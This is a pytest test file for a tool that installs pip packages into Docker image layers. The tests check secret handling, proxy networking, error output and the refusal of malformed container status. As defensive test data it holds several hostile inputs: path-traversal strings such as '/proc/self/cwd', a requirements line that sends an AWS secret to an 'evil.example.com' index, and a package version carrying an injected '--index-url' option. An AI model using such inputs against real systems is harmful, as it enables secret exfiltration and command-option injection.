from __future__ import annotations

import json
import subprocess
from pathlib import Path, PurePosixPath
from types import SimpleNamespace
from typing import Any

import pytest

from dockml_magic import labels, layers
from dockml_magic.engine import ImageState
from dockml_magic.engine.contract import LARGEST_FILE
from dockml_magic.errors import ConfigError, ImageBuildError, KernelMissingError
from dockml_magic.image_memory import ImageMemory
from dockml_magic.layers import Inventory, ensure_layer, list_packages, pip_wheel
from dockml_magic.requirements import Extras
from dockml_magic.spec import RUNTIME, ContainerSpec
from tests.unit.fake_engine import FakeEngine, Run

TINY = Extras(lines=("tiny==1.0",))
HOSTILE = ("/proc/self/cwd", "../..", "3.6/..", "3.6.15\n", "٣.٦", "3", "3." + "6" * 50)
"""What is no version of a Python; the first is a folder of this machine's, where it becomes part of a path."""
DONE = {"phase": "done", "code": 0, "python": "3.6.15", "executable": "/usr/bin/python3"}


class Installs(FakeEngine):
    """An engine in whose containers our script says, one after the other, what it is told to."""

    def __init__(self, *statuses: dict[str, Any] | bytes, output: str = "") -> None:
        super().__init__(behave=lambda spec: Run(output=output))
        self.statuses = list(statuses)
        self.given: dict[PurePosixPath, bytes] = {}

    def read_file(
        self, container_id: str, path: PurePosixPath, *, limit: int = LARGEST_FILE
    ) -> bytes | None:
        assert path == RUNTIME / "status.json"
        status = self.statuses[0]
        if isinstance(status, bytes):
            return status
        if status.get("phase") == "need_pip" and RUNTIME / "pip.ready" in self.given:
            self.statuses.pop(0)
            return json.dumps(self.statuses[0]).encode()
        return json.dumps(status).encode() if status else None

    def copy_in(self, container_id: str, archive: bytes) -> None:
        super().copy_in(container_id, archive)
        self.given |= self._containers[container_id].files


@pytest.fixture(autouse=True)
def no_pause(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(layers.time, "sleep", lambda seconds: None)


def base_of(engine: FakeEngine, **changes: Any) -> ImageState:
    return engine.add_image("me/mine:1", **changes)


def test_a_layer_is_built_once(told: list[str]) -> None:
    engine = Installs(DONE, output="Collecting tiny\n\nInstalled tiny\n")
    base = base_of(engine)
    made = ensure_layer(base, "me/mine:1", TINY, engine, told.append)
    reference = TINY.reference(base.id)
    assert engine.find_image(reference) == made
    assert told == [
        f"installing tiny==1.0 on top of me/mine:1, once: {reference}",
        "Collecting tiny",
        "Installed tiny",
    ]
    assert engine.layers == [
        (reference, {labels.BASE: "me/mine:1", labels.REQUIREMENTS: "tiny==1.0"})
    ]
    assert ensure_layer(base, "me/mine:1", TINY, engine, told.append) == made
    assert len(engine.layers) == 1
    assert len(told) == 3
    assert engine.containers == []


def test_the_container_has_nothing_that_would_get_into_the_image(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    bundle = tmp_path / "ca.pem"
    bundle.write_text("an authority")
    monkeypatch.setenv("PIP_CERT", str(bundle))
    monkeypatch.setenv("PIP_INDEX_URL", "https://ann:secret@pypi.example.com/simple")
    engine = Installs(DONE)
    extras = Extras(lines=("--index-url https://${TOKEN}@x/", "tiny"), constraints=("six==1",))
    given = {"TOKEN": "a token", "OTHER": "not asked for"}
    ensure_layer(base_of(engine), "me/mine:1", extras, engine, print, given)
    spec: ContainerSpec = engine.specs[0]
    assert spec.env == {}
    assert set(spec.labels) == {labels.VERSION, labels.USER}
    assert spec.auto_remove
    assert [(m.target, m.host_path, m.volume) for m in spec.mounts] == [(RUNTIME, None, "")]
    assert "secret" not in str(spec)
    assert "a token" not in str(engine.layers)
    config = json.loads(engine.given[RUNTIME / "config.json"])
    assert config["env"]["PIP_INDEX_URL"] == "https://ann:secret@pypi.example.com/simple"
    assert config["env"]["PIP_CERT"] == str(RUNTIME / "ca-bundle.pem")
    assert config["env"]["TOKEN"] == "a token"
    assert "OTHER" not in config["env"]
    assert engine.given[RUNTIME / "ca-bundle.pem"] == b"an authority"
    assert engine.given[RUNTIME / "requirements.txt"].decode().splitlines() == list(extras.lines)
    assert engine.given[RUNTIME / "constraints.txt"] == b"six==1\n"


def test_a_requirements_file_gets_no_variable_that_the_container_does_not(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("AWS_SECRET", "of this machine")
    engine = Installs(DONE)
    extras = Extras(lines=("--index-url https://evil.example.com/${AWS_SECRET}/", "tiny"))
    with pytest.raises(ConfigError, match="names the variable AWS_SECRET, which") as caught:
        ensure_layer(base_of(engine), "me/mine:1", extras, engine, print, {"OTHER": "1"})
    assert "-e AWS_SECRET" in caught.value.hint
    assert engine.specs == []


def test_what_pip_says_is_readable(told: list[str]) -> None:
    long = f"ERROR: (from versions: {', '.join(map(str, range(500)))})"
    output = f"DEPRECATION: Python 2.7 reached\n{long}\nWARNING: Running pip as the 'root'\nlast\n"
    engine = Installs({**DONE, "code": 1}, output=output)
    with pytest.raises(ImageBuildError) as caught:
        ensure_layer(base_of(engine), "me/mine:1", TINY, engine, told.append)
    assert told[2:] == ["last"]
    assert told[1].startswith("ERROR: (from versions: 0, 1, 2, 3")
    assert told[1].endswith(" 498, 499)")
    assert len(told[1]) < 300
    assert caught.value.log_tail == "\n".join(told[1:])


@pytest.mark.parametrize(
    ("variable", "value", "network"),
    [
        ("https_proxy", "http://127.0.0.1:3128", "host"),
        ("HTTP_PROXY", "localhost:3128", "host"),
        ("PIP_INDEX_URL", "http://[::1]:8080/simple", "host"),
        ("PIP_EXTRA_INDEX_URL", "https://x/simple http://127.0.0.1/simple", "host"),
        ("https_proxy", "http://proxy.example.com:3128", None),
        ("no_proxy", "localhost,127.0.0.1", None),
        ("PIP_INDEX_URL", "https://pypi.example.com/simple", None),
    ],
)
def test_a_proxy_or_index_of_this_machine_is_reached(
    variable: str,
    value: str,
    network: str | None,
    monkeypatch: pytest.MonkeyPatch,
    told: list[str],
) -> None:
    monkeypatch.setenv(variable, value)
    engine = Installs(DONE)
    ensure_layer(base_of(engine), "me/mine:1", TINY, engine, told.append)
    assert engine.specs[0].network == network
    said = [line for line in told if line.startswith("pip runs in the network of this machine")]
    assert len(said) == (network == "host")


def test_root_installs_and_an_image_without_user_keeps_none() -> None:
    for user, expected in [("", ""), ("jovyan", "0:0")]:
        engine = Installs(DONE)
        base = ImageState(**{**base_of(engine).__dict__, "user": user})
        engine._images["me/mine:1"].state = base
        ensure_layer(base, "me/mine:1", TINY, engine, print)
        assert engine.specs[0].user == expected


def test_what_was_found_out_about_the_base_is_used_and_kept() -> None:
    engine = Installs(DONE)
    base = base_of(engine, programs=["/opt/python"])
    ImageMemory("/opt/python", "/opt/python", "image", kernelspec="ir").write(base.id)
    made = ensure_layer(base, "me/mine:1", TINY, engine, print)
    assert json.loads(engine.given[RUNTIME / "config.json"])["interpreter"] == "/opt/python"
    assert ImageMemory.read(made.id) == ImageMemory(
        "/opt/python", "/usr/bin/python3", "", kernelspec="ir"
    )


def test_the_first_python_that_starts_is_used() -> None:
    engine = Installs(DONE)
    ensure_layer(base_of(engine, programs=["python3"]), "me/mine:1", TINY, engine, print)
    assert [spec.entrypoint[0] for spec in engine.specs] == ["python", "python3"]
    assert engine.containers == []


def test_an_image_without_python_is_told() -> None:
    engine = Installs(DONE)
    with pytest.raises(KernelMissingError, match=r"'me/mine:1' has no Python \(tried: python,"):
        ensure_layer(base_of(engine, programs=[]), "me/mine:1", TINY, engine, print)
    assert engine.containers == []


def test_an_image_without_pip_is_given_one(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    wheel = tmp_path / "pip.whl"
    wheel.write_bytes(b"a wheel")
    asked: list[str] = []
    monkeypatch.setattr(
        layers, "pip_wheel", lambda python, folder, image: (asked.append(python), wheel)[1]
    )
    engine = Installs({"phase": "need_pip", "python": "3.6.15"}, DONE)
    ensure_layer(base_of(engine), "me/mine:1", TINY, engine, print)
    assert asked == ["3.6.15"]
    assert engine.given[RUNTIME / "pip.whl"] == b"a wheel"


def test_what_pip_said_last_is_shown_without_passwords(told: list[str]) -> None:
    output = "".join(f"line {n} https://ann:secret@x/\n" for n in range(30))
    engine = Installs({**DONE, "code": 1}, output=f"{output}No space left on device\n")
    with pytest.raises(ImageBuildError, match="the engine's disk is full") as caught:
        ensure_layer(base_of(engine), "me/mine:1", TINY, engine, told.append)
    assert caught.value.message.startswith("tiny==1.0 could not be installed on top of 'me/mine:1'")
    assert len(caught.value.log_tail.splitlines()) == layers.TAIL
    assert "secret" not in f"{caught.value}{told}"
    assert engine.containers == []
    assert engine.layers == []


def test_a_container_that_goes_away_is_told() -> None:
    engine = Installs({})

    def vanish(container_id: str) -> None:
        engine._containers.clear()

    engine.start = vanish  # type: ignore[method-assign]
    with pytest.raises(ImageBuildError, match=r"that installed tiny==1\.0 went away"):
        ensure_layer(base_of(engine), "me/mine:1", TINY, engine, print)


@pytest.mark.parametrize(
    "status",
    [
        b"{",
        b"\xff",
        pytest.param(b"[" * 100_000, id="deep"),
        [],
        "done",
        {},
        {**DONE, "phase": "else"},
        {**DONE, "phase": ["done"]},
        {"phase": "done", "python": "3.6.15"},
        {**DONE, "code": "0"},
        {**DONE, "code": False},
        {**DONE, "code": 1 << 40},
        {**DONE, "python": 3.6},
        {**DONE, "python": None},
        *({**DONE, "python": python} for python in HOSTILE),
        *({"phase": "need_pip", "python": python} for python in HOSTILE),
        {**DONE, "executable": ["python"]},
        {**DONE, "executable": "python\n3"},
        {**DONE, "executable": "p" * 5000},
        {**DONE, "packages": ["numpy==1.0"]},
        {**DONE, "packages": {"numpy": 1}},
        {**DONE, "packages": {"numpy": "1.0\n--index-url http://x/"}},
    ],
)
def test_what_our_script_does_not_say_is_refused(
    status: object, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The image's own Python runs it."""

    def no_wheel(*words: object) -> None:
        pytest.fail("a pip was looked for")

    monkeypatch.setattr(layers, "pip_wheel", no_wheel)
    said = status if isinstance(status, bytes) else json.dumps(status).encode()
    engine = Installs(said)
    with pytest.raises(
        ImageBuildError, match=r"that installed tiny==1\.0 says what no script of ours says"
    ) as caught:
        ensure_layer(base_of(engine), "me/mine:1", TINY, engine, print)
    assert "The Python of 'me/mine:1' runs that script" in caught.value.hint
    assert engine.containers == engine.layers == []


@pytest.mark.parametrize("python", ["2.7.15+", "3.14.0rc1", "3.6", "3.13.0a1.dev2", ""])
def test_what_pythons_call_themselves_is_taken(python: str) -> None:
    engine = Installs({**DONE, "python": python})
    ensure_layer(base_of(engine), "me/mine:1", TINY, engine, print)
    assert len(engine.layers) == 1


def test_what_is_installed_is_listed() -> None:
    listed = {"phase": "done", "code": 0, "python": "3.6.15", "packages": {"b": "2", "a": "1"}}
    engine = Installs(listed)
    found = list_packages(base_of(engine), "me/mine:1", engine)
    assert found == Inventory(python="3.6.15", packages=("a==1", "b==2"))
    for failed in ({"phase": "done", "code": 1}, {**listed, "python": ""}):
        engine = Installs(failed)
        with pytest.raises(ImageBuildError, match="could not be listed"):
            list_packages(base_of(engine), "me/mine:1", engine)
        assert engine.containers == []


def test_an_interrupt_leaves_nothing() -> None:
    engine = Installs({})

    def interrupt(line: str) -> None:
        if "Collecting" in line:
            raise KeyboardInterrupt

    engine._behave = lambda spec: Run(output="Collecting tiny\n")
    with pytest.raises(KeyboardInterrupt):
        ensure_layer(base_of(engine), "me/mine:1", TINY, engine, interrupt)
    assert engine.containers == engine.layers == []


# --- a pip for an image that has none -------------------------------------------------------------


def test_a_pip_is_downloaded_once_per_python(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    commands: list[list[str]] = []

    def run(command: list[str], **keywords: Any) -> SimpleNamespace:
        commands.append(command)
        Path(command[command.index("--dest") + 1], "pip-21.3.1-py3-none-any.whl").touch()
        return SimpleNamespace(returncode=0, stdout="", stderr="")

    monkeypatch.setattr(subprocess, "run", run)
    found = {pip_wheel(python, tmp_path / "pips", "x") for python in ("3.6.15", "3.6.9")}
    assert found == {tmp_path / "pips" / "3.6" / "pip-21.3.1-py3-none-any.whl"}
    assert len(commands) == 1
    assert commands[0][-3:] == ["--python-version", "3.6", "pip"]


def test_a_pip_that_cannot_be_had_is_told(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    failed = SimpleNamespace(returncode=1, stdout="", stderr="a\nERROR: no network\n")
    monkeypatch.setattr(subprocess, "run", lambda *words, **keywords: failed)
    with pytest.raises(
        ImageBuildError, match=r"'me/mine:1' has no pip, .* Python 3\.6\.15"
    ) as caught:
        pip_wheel("3.6.15", tmp_path / "pips", "me/mine:1")
    assert caught.value.log_tail.endswith("ERROR: no network")


@pytest.mark.parametrize("python", ["", *HOSTILE])
def test_a_pip_is_for_a_version_and_no_path(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, python: str
) -> None:
    """A folder that an image names may have links to files of this machine under the name of a pip."""
    (tmp_path / "pip-1-py3-none-any.whl").write_text("of the host")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(subprocess, "run", lambda *words, **keywords: pytest.fail("downloaded"))
    with pytest.raises(ImageBuildError, match="has no pip, and does not say which Python it has"):
        pip_wheel(python, tmp_path / "pips", "me/mine:1")
